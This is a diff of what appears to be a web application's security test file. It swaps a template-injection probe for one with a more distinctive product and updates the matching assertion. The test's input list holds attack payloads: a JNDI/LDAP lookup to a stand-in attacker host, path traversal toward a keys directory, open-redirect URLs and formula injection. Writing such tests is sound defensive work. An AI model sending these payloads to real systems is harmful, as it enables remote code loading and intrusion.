@@ -48,7 +48,7 @@ AWKWARD = (
     "..%2f..%2finstance%2fkeys",
     "//kwaad.example/",
     "https://kwaad.example/",
-    "{{7*191}}",
+    "{{99991*99989}}",
     "${jndi:ldap://kwaad.example/a}",
     "=1+1",
     "0001-01-01",
@@ -76,7 +76,7 @@ def unmarked(response: Any, what: object) -> None:
     assert "kwaad.example" not in response.headers.get("Location", ""), what
     if "html" not in response.content_type or not response.data:
         return
-    assert "1337" not in response.text, f"a template ran what was sent: {what}"
+    assert str(99991 * 99989) not in response.text, f"a template ran what was sent: {what}"
     page = html.fromstring(response.text)
     wrong = page.xpath(
         f"//{MARK} | //@on{MARK} | //@href[starts-with(., 'javascript:')] | //script[not(@src)]"
